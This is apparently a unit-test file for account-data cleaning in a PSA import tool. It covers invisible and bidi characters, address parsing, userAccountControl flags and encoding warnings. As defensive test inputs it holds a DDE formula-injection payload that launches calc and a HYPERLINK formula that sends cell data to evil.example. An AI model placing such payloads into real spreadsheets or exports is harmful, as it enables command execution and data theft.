using System.Linq;
using QuickpassPsa.Core.Accounts;

namespace QuickpassPsa.Tests.Accounts;

/// <summary>
/// Round 73c: account values came in as the export or the pipeline gave them, and New-PsaContact wrote them into the PSA:
/// "nina.n\u200Bew@contoso.com", '"quinn.quote@contoso.com"', "mailto:mel.mailto@contoso.com" (the account's Id too), a mobile
/// with a zero-width space, "Bell\u0007" and "\u202EnnA". What is clearly no part of a value is dropped as accounts come in
/// (<see cref="AccountText"/>, through <see cref="AccountBuilder"/>, the one place Get-QpAccount and ConvertTo-QpAccount share).
/// </summary>
public class AccountTextTests
{
    private static AccountRecord Record(params (string Name, object? Value)[] values)
    {
        var record = new AccountRecord("test, row 1", 1);
        foreach (var (name, value) in values) record.Add(name, value);
        return record;
    }

    /// <summary>One record read from a CSV file (also for <see cref="AccountTextRound74bTests"/>).</summary>
    internal static AccountReadResult Build(params (string Name, object? Value)[] values) => AccountBuilder.Build(Record(values), AccountSource.CsvFile)!;

    [Theory]
    [InlineData("nina.n\u200Bew@contoso.com", "nina.new@contoso.com")]          // zero-width space
    [InlineData("\uFEFFbom.user@contoso.com", "bom.user@contoso.com")]           // byte-order mark
    [InlineData("\u200Fann.lee@contoso.com\u200E", "ann.lee@contoso.com")]       // bidi marks
    [InlineData("\u202Eann.lee@contoso.com\u202C", "ann.lee@contoso.com")]       // a bidi override and its end
    [InlineData("ann.l\u00ADee@contoso.com", "ann.lee@contoso.com")]             // soft hyphen
    [InlineData("ann.lee@contoso.com\u00A0", "ann.lee@contoso.com")]             // no-break space
    [InlineData("\"quinn.quote@contoso.com\"", "quinn.quote@contoso.com")]
    [InlineData("'bob.ray@contoso.com'", "bob.ray@contoso.com")]
    [InlineData("\u201Cbob.ray@contoso.com\u201D", "bob.ray@contoso.com")]       // typographic quotes
    [InlineData("<angie.angle@contoso.com>", "angie.angle@contoso.com")]
    [InlineData("John Smith <john.smith@contoso.com>", "john.smith@contoso.com")]
    [InlineData("\"Smith, John\" <john.smith@contoso.com>", "john.smith@contoso.com")]
    [InlineData("mailto:mel.mailto@contoso.com", "mel.mailto@contoso.com")]
    [InlineData("MAILTO:mel.mailto@contoso.com?subject=Hi", "mel.mailto@contoso.com")]
    [InlineData("SMTP:john.smith@contoso.com", "john.smith@contoso.com")]
    [InlineData("smtp: john.smith@contoso.com", "john.smith@contoso.com")]
    [InlineData("dot.trail@contoso.com.", "dot.trail@contoso.com")]
    [InlineData("\uFF46\uFF57.user@contoso.com", "fw.user@contoso.com")]         // full-width letters (NFKC)
    [InlineData("\uFF4A\uFF4F\uFF48\uFF4E\uFF0E\uFF53\uFF4D\uFF49\uFF54\uFF48\uFF20\uFF43\uFF4F\uFF4E\uFF54\uFF4F\uFF53\uFF4F\uFF0E\uFF43\uFF4F\uFF4D", "john.smith@contoso.com")]
    [InlineData("Ann.Lee+Tickets@Contoso.COM", "Ann.Lee+Tickets@Contoso.COM")]   // case and a plus tag are the address's own
    [InlineData("o'brien@contoso.com", "o'brien@contoso.com")]
    [InlineData("j\u00FCrgen@m\u00FCller.de", "j\u00FCrgen@m\u00FCller.de")]
    public void An_address_is_cleaned_of_what_is_clearly_not_part_of_it(string value, string expected)
    {
        Assert.Equal(expected, AccountText.Address(value));
    }

    [Theory]
    [InlineData("dbl@@contoso.com")]
    [InlineData("ann@contoso..com")]
    [InlineData("ann@.contoso.com")]
    [InlineData("@contoso.com")]
    [InlineData("ann@")]
    [InlineData("Ann Lee")]
    [InlineData("ann lee@contoso.com")]
    [InlineData("ann@contoso.com; bob@contoso.com")]
    [InlineData("X500:/o=ExchangeLabs/cn=Recipients")]
    [InlineData("\u200B")]
    public void A_value_that_is_still_no_address_is_none(string value)
    {
        Assert.Null(AccountText.Address(value));
    }

    [Theory]
    [InlineData("Bell\u0007", "Bell")]
    [InlineData("\u202EnnA", "nnA")]
    [InlineData("\u2067\u0633\u0627\u0631\u0627\u2069", "\u0633\u0627\u0631\u0627")] // an isolate around an Arabic name
    [InlineData("\uFEFFAnn", "Ann")]
    [InlineData("Kim\r\nPark", "Kim Park")]                                          // a line break between words is a space
    [InlineData("Tab\tName", "Tab Name")]
    [InlineData("Ann \u2028 Lee", "Ann Lee")]
    [InlineData("\u0645\u06CC\u200C\u0631\u0648\u0632", "\u0645\u06CC\u200C\u0631\u0648\u0632")] // Persian with ZWNJ: kept
    [InlineData("\u0915\u094D\u200D\u0937", "\u0915\u094D\u200D\u0937")]             // Devanagari with ZWJ: kept
    [InlineData("Jo\u200Bhn", "Jo\u200Bhn")]                                         // a zero-width space is left for the gate
    [InlineData("M\u00FCl\u00ADler", "M\u00FCl\u00ADler")]                           // so is a soft hyphen
    [InlineData("Zo\u00EB Ng\u01B0\u1EC5n", "Zo\u00EB Ng\u01B0\u1EC5n")]
    public void A_name_loses_control_characters_bidi_controls_and_a_byte_order_mark_and_keeps_ZWNJ_and_ZWJ(string value, string expected)
    {
        Assert.Equal(expected, AccountText.Name(value));
    }

    [Theory]
    [InlineData("\u202E")]
    [InlineData("\u0007\uFEFF")]
    public void A_name_of_nothing_but_such_characters_is_no_name(string value)
    {
        Assert.Null(AccountText.Name(value));
    }

    [Theory]
    [InlineData("+1\u200B206 555 0177", "+1206 555 0177")]
    [InlineData("\u202A+44 7700 900123\u202C", "+44 7700 900123")]
    [InlineData("\uFEFF206 555 0100", "206 555 0100")]
    public void A_mobile_loses_format_characters(string value, string expected)
    {
        Assert.Equal(expected, AccountText.Mobile(value));
    }

    [Theory]
    [InlineData("Bell\u0007", 0x0007)]
    [InlineData("Jo\u200Bhn", 0x200B)]
    [InlineData("\u202EnnA", 0x202E)]
    [InlineData("Ann\u200E", 0x200E)]
    [InlineData("Kim\nPark", 0x000A)]
    public void The_gate_names_the_first_control_or_format_character(string value, int expected)
    {
        Assert.Equal(expected, AccountText.Unwritable(value));
    }

    [Theory]
    [InlineData("\u0645\u06CC\u200C\u0631\u0648\u0632")]
    [InlineData("\u0915\u094D\u200D\u0937")]
    [InlineData("Zo\u00EB")]
    [InlineData("ann.lee@contoso.com")]
    public void ZWNJ_ZWJ_and_letters_pass_the_gate(string value)
    {
        Assert.Null(AccountText.Unwritable(value));
    }

    [Theory]
    [InlineData("=cmd|' /C calc'!A0", "=")]
    [InlineData("+cmd", "+")]
    [InlineData("@SUM(1+1)", "@")]
    [InlineData("-", null)]
    [InlineData("Ann", null)]
    public void A_name_that_begins_as_a_formula_is_told(string name, string? expected)
    {
        Assert.Equal(expected, AccountText.FormulaStart(name));
    }

    [Fact]
    public void Messages_show_hidden_characters_as_their_code_points()
    {
        Assert.Equal("<U+202E>nnA", AccountText.Shown("\u202EnnA"));
        Assert.Equal("Bell<U+0007>", AccountText.Shown("Bell\u0007"));
        Assert.Equal("\u0645\u06CC\u200C", AccountText.Shown("\u0645\u06CC\u200C"));
        Assert.Equal("U+202E (RIGHT-TO-LEFT OVERRIDE), an invisible format character", AccountText.Describe('\u202E'));
        Assert.Equal("U+0007 (BELL), a control character", AccountText.Describe('\u0007'));
    }

    [Fact]
    public void The_builder_cleans_every_field_and_takes_the_Id_from_the_cleaned_address()
    {
        var result = Build(("GivenName", "\u202EnnA"), ("Surname", "Bell\u0007"), ("Mail", "mailto:str.two@contoso.com"),
            ("Mobile", "+1\u200B206 555 0177"), ("ProxyAddresses", "\uFEFFSMTP:str.two@contoso.com;smtp:<alias@contoso.com>;smtp:dbl@@contoso.com"));

        var account = result.Account!;
        Assert.Equal(("nnA", "Bell", "nnA Bell"), (account.FirstName, account.LastName, account.DisplayName));
        Assert.Equal("str.two@contoso.com", account.Email);
        Assert.Equal("str.two@contoso.com", account.Id);
        Assert.Equal("+1206 555 0177", account.MobilePhone);
        Assert.Equal(new[] { "SMTP:str.two@contoso.com", "smtp:alias@contoso.com" }, account.ProxyAddresses.Select(p => p.ToString()));
        Assert.Empty(result.Warnings);
    }

    [Fact]
    public void A_sign_in_name_loses_its_invisible_characters_and_so_does_the_Id_taken_from_it()
    {
        var account = Build(("UserPrincipalName", "\uFEFFalee@contoso.com\u200B"), ("DisplayName", "Ann Lee")).Account!;

        Assert.Equal(("alee@contoso.com", "alee@contoso.com"), (account.UserPrincipalName, account.Id));
    }

    [Fact]
    public void An_email_that_is_still_no_address_is_ignored_with_the_warning_and_the_proxy_address_stands_in()
    {
        var result = Build(("DisplayName", "Dbl At"), ("Mail", "dbl@@contoso.com"), ("ProxyAddresses", "SMTP:dbl@contoso.com"));

        Assert.Equal("dbl@contoso.com", result.Account!.Email);
        Assert.Equal("test, row 1: Email value 'dbl@@contoso.com' is not an email address and was ignored.", Assert.Single(result.Warnings));
    }

    [Fact]
    public void A_record_left_with_no_address_and_no_name_says_which_value_was_ignored()
    {
        var result = Build(("Mail", "bob.ray@@contoso.com"));

        Assert.Null(result.Account);
        Assert.Contains("has neither an email address nor a name", result.Error!.Message);
        Assert.Contains("Email value 'bob.ray@@contoso.com' is not an email address and was ignored.", result.Error.Message);
    }

    [Fact]
    public void A_warning_quotes_an_invisible_character_by_its_code_point()
    {
        var result = Build(("DisplayName", "Ann Lee"), ("Mail", "\u202Eann@@contoso.com"));

        Assert.Contains("'<U+202E>ann@@contoso.com'", Assert.Single(result.Warnings));
    }

    [Theory] // round 73c: userAccountControl was ignored, so a leaver's 514 came in enabled
    [InlineData("514", false)]
    [InlineData("66050", false)]
    [InlineData("546", false)]     // PASSWD_NOTREQD | ACCOUNTDISABLE | NORMAL_ACCOUNT
    [InlineData("0x202", false)]
    [InlineData("512", true)]
    [InlineData("66048", true)]
    public void Bit_2_of_userAccountControl_sets_Enabled_when_nothing_else_says(string control, bool enabled)
    {
        var result = Build(("GivenName", "Lea"), ("sn", "Ver"), ("mail", "lea.ver@contoso.com"), ("userAccountControl", control));

        Assert.Equal(enabled, result.Account!.Enabled);
        Assert.Empty(result.Warnings);
    }

    [Fact]
    public void A_userAccountControl_in_a_collection_as_DirectorySearcher_gives_it_is_read()
    {
        var record = Record(("givenname", "Mary"), ("sn", "Jones"), ("mail", "mary.jones@contoso.com"), ("useraccountcontrol", new object[] { 66050 }));

        Assert.False(AccountBuilder.Build(record, AccountSource.ActiveDirectory)!.Account!.Enabled);
    }

    [Theory]
    [InlineData("Enabled", "True")]
    [InlineData("AccountEnabled", "true")]
    [InlineData("BlockCredential", "False")]
    public void An_Enabled_or_Block_credential_value_wins_over_userAccountControl(string column, string value)
    {
        var result = Build(("mail", "lea.ver@contoso.com"), (column, value), ("userAccountControl", "514"));

        Assert.True(result.Account!.Enabled);
    }

    [Fact]
    public void A_userAccountControl_that_is_no_number_is_a_warning_and_the_account_is_taken_as_enabled()
    {
        var result = Build(("mail", "lea.ver@contoso.com"), ("userAccountControl", "disabled?"));

        Assert.True(result.Account!.Enabled);
        Assert.Contains("userAccountControl value 'disabled?' is not a number", Assert.Single(result.Warnings));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")")] // round 73c: the URL's '?' was taken for a lost letter
    [InlineData("Ann ? Lee")]
    public void A_question_mark_that_stands_for_no_letter_is_no_warning(string display)
    {
        Assert.Empty(Build(("DisplayName", display), ("Mail", "x@contoso.com")).Warnings);
    }

    [Theory]
    [InlineData("Jos?", "?ahin")]
    [InlineData("Jean-Fran?ois", "O'Conn?r")]
    [InlineData("Zo?,", "Nguy?n")]
    public void A_question_mark_in_a_word_of_letters_is_still_warned_about(string first, string last)
    {
        Assert.Contains("-Encoding UTF8", Assert.Single(Build(("GivenName", first), ("Surname", last), ("Mail", "x@contoso.com")).Warnings));
    }
}
